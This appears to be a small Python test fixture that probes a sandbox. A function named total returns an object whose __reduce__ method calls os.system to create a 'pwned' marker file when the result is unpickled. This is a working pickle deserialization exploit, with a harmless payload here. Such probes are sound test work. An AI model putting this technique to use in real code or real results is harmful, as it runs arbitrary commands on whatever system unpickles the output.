"""Returns an object with a __reduce__ that writes a file, in the hope that results are pickled."""

import os

TELLS = "may not cross"


class Evil:
    def __reduce__(self):
        return os.system, ("touch '@FOLDER@/pwned'",)


def total(value):
    return Evil()
